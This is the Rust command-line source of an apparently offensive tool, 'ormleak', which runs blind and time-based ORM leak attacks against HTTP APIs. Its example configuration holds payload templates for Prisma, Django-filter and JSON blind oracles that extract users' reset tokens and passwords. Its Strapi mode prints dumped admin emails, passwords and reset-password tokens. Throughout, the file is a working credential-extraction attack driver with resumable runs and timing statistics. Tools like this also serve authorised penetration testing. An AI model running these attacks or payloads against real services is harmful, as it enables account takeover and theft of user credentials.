//! ormleak CLI - Blind and time-based ORM leak extraction.

use anyhow::{Context, Result};
use clap::{Parser, Subcommand};
use ormleak::attacks::{self, AttackPlan};
use ormleak::{
    BlindExtractor, CheckpointManager, Config, ExtractionSettings, HttpTarget, OrmLeakError,
    RunStats, StrapiCampaign, TimingExtractor,
};
use std::path::PathBuf;
use std::sync::Arc;
use tracing::{Level, info, warn};
use tracing_subscriber::FmtSubscriber;

#[derive(Parser)]
#[command(name = "ormleak")]
#[command(version)]
#[command(about = "Blind and time-based ORM leak extraction over HTTP APIs")]
struct Cli {
    #[command(subcommand)]
    command: Commands,

    /// Path to configuration file
    #[arg(short, long, global = true, default_value = "config.toml")]
    config: PathBuf,

    /// Verbose output
    #[arg(short, long, global = true)]
    verbose: bool,
}

#[derive(Subcommand)]
enum Commands {
    /// Run the configured attack
    Run {
        /// Known prefix of the dumped value
        #[arg(short, long)]
        prefix: Option<String>,

        /// Maximum requests in flight
        #[arg(short, long)]
        threads: Option<usize>,

        /// Initial number of trials per candidate
        #[arg(long)]
        trials: Option<usize>,

        /// p-value threshold for accepting a timing difference
        #[arg(long)]
        significance_level: Option<f64>,

        /// Log per-candidate statistics and batch progress
        #[arg(long)]
        verbose_stats: bool,

        /// Checkpoint directory for resumable runs
        #[arg(long)]
        checkpoint: Option<PathBuf>,
    },

    /// Validate configuration file
    Validate,

    /// Show example configuration
    Example,
}

fn setup_logging(verbose: bool) -> Result<()> {
    let level = if verbose { Level::DEBUG } else { Level::INFO };
    let subscriber = FmtSubscriber::builder()
        .with_max_level(level)
        .with_target(false)
        .with_thread_ids(false)
        .compact()
        .finish();
    tracing::subscriber::set_global_default(subscriber).context("Failed to set subscriber")
}

fn print_example_config() {
    let example = r#"# ormleak configuration file

[target]
url = "http://localhost:3000/articles"
method = "POST"
timeout_secs = 60
max_retries = 3                      # setup requests only, timed probes are never retried
# proxy = "http://127.0.0.1:8080"
# accept_invalid_certs = false

[target.headers]
# Authorization = "Bearer ${TARGET_TOKEN}"

[search]
chars = "0123456789abcdef"
dumped_prefix = ""
threads = 5
# max_length = 64

[stats]
trials = 10
significance_level = 0.1
max_trials = 200
trials_multiplier = 1.5
retries = 2
verbose = false
do_trials_search = false
search_comparisons = 5
use_highest_mean = false

[attack]
kind = "prisma-contains"
base_query = '{"query": {PAYLOAD}}'
leak_query = '{"createdBy": {"resetToken": {"startsWith": "{ORM_LEAK}"}}}'
contains_payload = '{"body": {"contains": "{RANDOM_STRING}"}}'
start_contains_length = 10
max_contains_length = 100000
max_leak_length = 256
# calibration_leak_query = '{"createdBy": {"email": {"startsWith": "{ORM_LEAK}"}}}'
# hit_value = "admin@"

# Other attacks:
#
# [attack]
# kind = "json-blind"
# template = { file = "query.json" }  # with {ORM_LEAK}
# success_pointer = "/data"
# contains = false
# known_hit = ""
# known_miss = "DEFINITELY NOT A PREFIX"
#
# [attack]
# kind = "django-filter"
# dump_key = "created_by"
# dump_val = "password"
# dos_key = "articles"
# dos_fields = ["title", "body"]
# where_filter_name = "filters"
#
# [attack]
# kind = "strapi"
# version = "v4"
# dump_first_admin = true
"#;
    println!("{example}");
}

fn load_config(path: &PathBuf) -> Result<Config> {
    let config = Config::from_file(path)
        .with_context(|| format!("Failed to load config from {:?}", path))?;
    Ok(config)
}

fn print_summary(title: &str, stats: &RunStats) {
    println!("\n=== {title} ===");
    println!("Value:       {}", stats.value);
    println!("Accepted:    {}", stats.characters_accepted);
    println!("Backtracks:  {}", stats.backtracks);
    if let Some(trials) = stats.final_trials {
        println!("Trials:      {trials}");
    }
    println!("Requests:    {}", stats.requests_sent);
    println!("Runtime:     {:.1}s", stats.runtime_secs);
}

fn report_failure(e: &OrmLeakError, partial: &str) {
    eprintln!("\nFAILED: {e}");
    if !partial.is_empty() {
        eprintln!("Partial value: {partial}");
    }
    if let Some(hint) = e.hint() {
        eprintln!("Hint: {hint}");
    }
    if !e.is_fatal() {
        eprintln!("The target may have been unreachable: rerun with --checkpoint to resume");
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();
    setup_logging(cli.verbose)?;

    match cli.command {
        Commands::Example => {
            print_example_config();
            return Ok(());
        }

        Commands::Validate => {
            let config = load_config(&cli.config)?;
            config.validate().context("Invalid configuration")?;

            let target = Arc::new(HttpTarget::from_config(&config.target)?);
            attacks::build(&config.attack, target).context("Invalid attack settings")?;

            info!("Configuration is valid");
            info!("  Target: {} {}", config.target.method, config.target.url);
            info!("  Attack: {}", config.attack.name());
            info!(
                "  Alphabet: {} characters, {} threads",
                config.search.chars.chars().count(),
                config.search.threads
            );
            if config.attack.is_time_based() {
                info!(
                    "  Trials: {} (max {}), significance level {}",
                    config.stats.trials, config.stats.max_trials, config.stats.significance_level
                );
            }
            return Ok(());
        }

        Commands::Run {
            prefix,
            threads,
            trials,
            significance_level,
            verbose_stats,
            checkpoint,
        } => {
            let mut config = load_config(&cli.config)?;

            // Override config from CLI
            if let Some(prefix) = prefix {
                config.search.dumped_prefix = prefix;
            }
            if let Some(threads) = threads {
                config.search.threads = threads;
            }
            if let Some(trials) = trials {
                config.stats.trials = trials;
            }
            if let Some(level) = significance_level {
                config.stats.significance_level = level;
            }
            config.stats.verbose |= verbose_stats;
            config.validate().context("Invalid configuration")?;

            let target = Arc::new(HttpTarget::from_config(&config.target)?);
            let plan = attacks::build(&config.attack, Arc::clone(&target))?;
            let mut settings = ExtractionSettings::from_config(&config)?;

            // Setup checkpoint manager if requested
            let checkpoint_mgr = match checkpoint {
                Some(_) if matches!(plan, AttackPlan::Strapi(_)) => {
                    warn!("Checkpoints are not supported for Strapi campaigns, ignoring");
                    None
                }
                Some(checkpoint_dir) => {
                    let mut mgr = CheckpointManager::new(&checkpoint_dir)
                        .context("Failed to create checkpoint manager")?;
                    let trials = config.attack.is_time_based().then_some(settings.trials.trials);
                    let state = mgr
                        .init_or_load(config.attack.name(), &config.target.url, &settings.prefix, trials)
                        .context("Failed to initialize checkpoint")?;
                    settings.prefix = state.known_value.clone();
                    if let Some(trials) = state.trials {
                        settings.trials.trials = trials;
                    }
                    Some(mgr)
                }
                None => None,
            };

            match plan {
                AttackPlan::Blind(oracle) => {
                    let mut extractor = BlindExtractor::from_settings(oracle, &settings);
                    if let Some(mgr) = checkpoint_mgr {
                        extractor = extractor.with_checkpoint(mgr);
                    }
                    let mut stats = match extractor.run().await {
                        Ok(stats) => stats,
                        Err(e) => {
                            report_failure(&e, "");
                            return Err(e.into());
                        }
                    };
                    stats.requests_sent = target.requests_sent() as usize;
                    print_summary("Blind Extraction Complete", &stats);
                }

                AttackPlan::Timing(oracle) => {
                    let mut extractor = TimingExtractor::new(oracle, settings)?;
                    if let Some(mgr) = checkpoint_mgr {
                        extractor = extractor.with_checkpoint(mgr);
                    }
                    let mut stats = match extractor.run().await {
                        Ok(stats) => stats,
                        Err(e) => {
                            report_failure(&e, extractor.known());
                            return Err(e.into());
                        }
                    };
                    stats.requests_sent = target.requests_sent() as usize;
                    print_summary("Time-Based Extraction Complete", &stats);
                }

                AttackPlan::Strapi(strapi) => {
                    let campaign = StrapiCampaign::new(strapi, settings.threads);
                    let report = match campaign.run().await {
                        Ok(report) => report,
                        Err(e) => {
                            report_failure(&e, "");
                            return Err(e.into());
                        }
                    };

                    println!("\n=== Strapi Dump Complete ===");
                    for account in &report.accounts {
                        println!("Item {} ({}):", account.item_id, account.user_field);
                        println!("  email:                {}", account.email);
                        println!("  password:             {}", account.password);
                        println!("  reset_password_token: {}", account.reset_password_token);
                    }
                    println!("Accounts:    {}", report.accounts.len());
                    println!("Items:       {}", report.items_scanned);
                    println!("Requests:    {}", report.requests_sent);
                    println!("Runtime:     {:.1}s", report.runtime_secs);
                }
            }
        }
    }

    Ok(())
}
